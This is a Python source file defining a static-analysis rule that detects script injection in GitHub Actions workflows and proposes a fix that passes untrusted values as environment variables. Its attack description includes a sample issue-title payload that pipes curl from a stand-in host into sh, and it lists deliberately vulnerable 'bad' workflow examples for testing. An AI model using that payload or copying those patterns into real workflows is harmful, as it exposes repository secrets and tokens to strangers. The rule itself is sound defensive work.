"""A stranger's words that become part of a script."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from vetline_analyzers.core.finding import Confidence, Fix, Severity
from vetline_analyzers.core.text import Edit, Span
from vetline_analyzers.syntax.document import workflow
from vetline_analyzers.syntax.document.rule import ConfigurationRule, Report, indent_at, is_flow

if TYPE_CHECKING:
    from collections.abc import Iterator

    from vetline_analyzers.syntax.document.rule import Document
    from vetline_analyzers.syntax.document.workflow import Expression, Step

_BOUNDED = frozenset({"boolean", "number", "choice", "environment"})
_PRINTS = re.compile(r"""\s*echo "[^"'`\\#()|]*""")
_ENDS = re.compile(r"""\A\s*echo "[^"'`\\#()|]*"(?:\s*>>?\s*"?\$[\w{}]+"?)?\s*\Z""")
_OPEN = re.compile(r"""<<|["'`\\]""")
_SHELLS = frozenset({"", "bash", "sh"})


def _check(document: Document) -> Iterator[Report]:
    triggers = workflow.triggers(document)
    severity = None if not triggers or triggers & workflow.PRIVILEGED else Severity.MEDIUM
    carriers = workflow.carriers(document)
    for step in workflow.steps(document):
        for script in workflow.scripts(step):
            for expression in workflow.expressions(script):
                said = workflow.untrusted(expression.inner) or workflow.carried(
                    expression.inner, step, document, carriers
                )
                if said:
                    yield Report(
                        f"{said} is put into the script before it runs, and a stranger chooses it: "
                        "hand it over as an environment variable.",
                        expression.span,
                        fix=_fix(document, step, expression, said),
                        severity=severity,
                    )
                elif (name := workflow.vague(expression.inner)) and not _is_bounded(document, name):
                    yield Report(
                        f"{name} is put into the script before it runs: hand it over as an "
                        "environment variable, or whoever chooses it runs commands here.",
                        expression.span,
                        fix=_fix(document, step, expression, name),
                        severity=Severity.MEDIUM,
                        confidence=Confidence.LOW,
                        tentative=True,
                    )


def _is_bounded(document: Document, name: str) -> bool:
    """Whether an input can hold only what its type allows."""
    last = name.rpartition(".")[2]
    return any(
        document.root.string("on", event, "inputs", last, "type") in _BOUNDED
        for event in ("workflow_dispatch", "workflow_call")
    )


def _fix(document: Document, step: Step, expression: Expression, said: str) -> Fix | None:
    """Hands the expression over as a variable of the step's environment."""
    run = step.node.pair("run")
    if (
        run is None
        or step.node.string("shell") not in _SHELLS
        or not run.value.span.contains(expression.span)
    ):
        return None
    if is_flow(document, step.node) or not re.fullmatch(r"\s*[\w.-]+\s*", expression.inner):
        return None
    name = (
        re.sub(r"\W+", "_", said.removeprefix("github.").removeprefix("event.")).strip("_").upper()
    )
    entry = f"{name}: ${{{{ {expression.inner.strip()} }}}}"
    place = Edit(expression.span, f"${{{name}}}")
    safe = _is_echoed(document, step, expression, name)
    env = step.node.pair("env")
    if env is None:
        indent = indent_at(document.text, run.span.start)
        at = Span(run.span.start, run.span.start)
        edit = Edit(at, f"env:\n{indent}  {entry}\n{indent}")
    elif env.value.pairs and not is_flow(document, env.value):
        first = env.value.pairs[0].span.start
        edit = Edit(Span(first, first), f"{entry}\n{indent_at(document.text, first)}")
    else:
        return None
    return Fix("Hand it over as an environment variable", (edit, place), safe=safe)


def _is_echoed(document: Document, step: Step, expression: Expression, name: str) -> bool:
    """Whether the place is within double quotes of a line that prints, where a variable stands for its value.

    The line is read as the shell of a Unix runner reads it; no here-document or quote before it may be open, and
    nothing else in the file may be called like the variable.
    """
    text, at = document.text, expression.span.start
    run = step.node.pair("run")
    system = step.job.string("runs-on") if step.job is not None else ""
    if run is None or not (step.node.string("shell") or system.startswith(("ubuntu", "macos"))):
        return False
    if not step.node.string("shell") and document.root.get("defaults") is not None:
        return False
    if step.job is not None and step.job.get("defaults") is not None:
        return False
    line = max(text.rfind("\n", 0, at) + 1, run.value.at)
    whole = text[line : text.find("\n", at) if "\n" in text[at:] else None]
    before = text[run.value.at : line]
    return (
        _PRINTS.fullmatch(text[line:at]) is not None
        and _ENDS.search(whole) is not None
        and not _OPEN.search(before)
        and re.search(rf"\b{name}\b", text) is None
    )


RULE = ConfigurationRule(
    id="github-actions/script-injection",
    title="Script built from a stranger's words",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=(94, 78, 77),
    page="""
`${{ … }}` is put into the script as text before the shell reads it. A title, a branch name or a comment is
chosen by whoever opens the pull request or issue; with a quote and a `$(…)` in it, it becomes commands that
run with the workflow's token and secrets.
""",
    attack='Opens an issue titled `"; curl evil.example | sh #` and the workflow runs it with its secrets.',
    advice='Set an environment variable from the expression (`env: TITLE: ${{ … }}`) and use `"$TITLE"` in the '
    "script; in `github-script` read `context.payload`.",
    bad=(
        """\
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue ${{ github.event.issue.title }}"
""",
        """\
on: pull_request_target
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - name: branch
        env:
          LABEL: x
        run: |
          git fetch
          echo ${{ github.head_ref }}
      - uses: actions/github-script@v7
        with:
          script: |
            console.log("${{ github.event.comment.body }}")
""",
        """\
on: [push]
env:
  MESSAGE: ${{ github.event.head_commit.message }}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo '${{ env.MESSAGE }}' '${{ toJSON(github.event) }}'
""",
        """\
on: workflow_dispatch
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh ${{ inputs.target }}
""",
    ),
    good=(
        """\
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue $TITLE"
        env:
          TITLE: ${{ github.event.issue.title }}
""",
        """\
on: pull_request_target
jobs:
  label:
    if: contains(github.event.pull_request.title, 'wip')
    runs-on: ubuntu-latest
    steps:
      - run: echo ${{ contains(github.head_ref, 'release/') && 'yes' || 'no' }}
      - run: echo ${{ github.event.pull_request.number }} ${{ github.sha }}
      - run: echo ${{ github.event_name == 'push' && github.ref || github.event.pull_request.head.sha }}
""",
        """\
on:
  workflow_dispatch:
    inputs:
      target:
        type: choice
        options: [staging, production]
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh ${{ inputs.target }}
""",
    ),
    url="https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions",
    language="yaml",
    path=workflow.PATH,
    kinds=workflow.KINDS,
    check=_check,
)
